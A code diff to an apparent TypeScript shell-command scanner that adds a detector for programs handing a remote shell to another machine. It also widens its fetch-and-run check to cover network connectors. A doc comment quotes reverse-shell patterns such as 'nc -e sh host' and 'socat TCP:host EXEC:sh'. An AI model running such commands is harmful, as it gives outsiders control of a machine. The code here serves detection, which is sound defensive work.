@@ -1,4 +1,4 @@
-import { DOWNLOADERS, FETCH_AND_RUN, INTERPRETERS, UNPACKERS } from '../knowledge/programs';
+import { CONNECTORS, DOWNLOADERS, FETCH_AND_RUN, INTERPRETERS, UNPACKERS } from '../knowledge/programs';
 import { type Range, span } from '../text/range';
 import type { Text } from '../text/text';
 import { everyCommand, type Launch } from './launch';
@@ -16,6 +16,11 @@ const named = (launch: Launch, names: ReadonlySet<string>): boolean =>
 
 export const isDownload = (launch: Launch): boolean => named(launch, DOWNLOADERS);
 
+/** A program that hands a shell of this machine to another computer: `nc -e sh host`, `socat TCP:host EXEC:sh`. */
+export const handsOutShell = (launch: Launch): boolean =>
+  named(launch, CONNECTORS) &&
+  wordsOf(launch).some(({ value }) => /^(?:-[a-z]*[ec]|--(?:sh-)?exec)$|^(?:exec|system):/i.test(value));
+
 /** The first place where a launch runs what it has just fetched: through a pipe, a substitution or a file. */
 export function fetchedAndRun(launch: Launch): Fetched | undefined {
   const commands = everyCommand(launch);
@@ -26,7 +31,7 @@ export function fetchedAndRun(launch: Launch): Fetched | undefined {
   }
   const inOrder = commands.filter(it => it.program).sort((a, b) => placeOf(a) - placeOf(b));
   for (const [index, download] of inOrder.entries()) {
-    if (!isDownload(download)) continue;
+    if (!isDownload(download) && !named(download, CONNECTORS)) continue;
     const after = inOrder.slice(index + 1, index + 50);
     const runner = after.find(it => readsInput(it) || runsFile(it, download, after));
     if (runner) return found(download, runner);
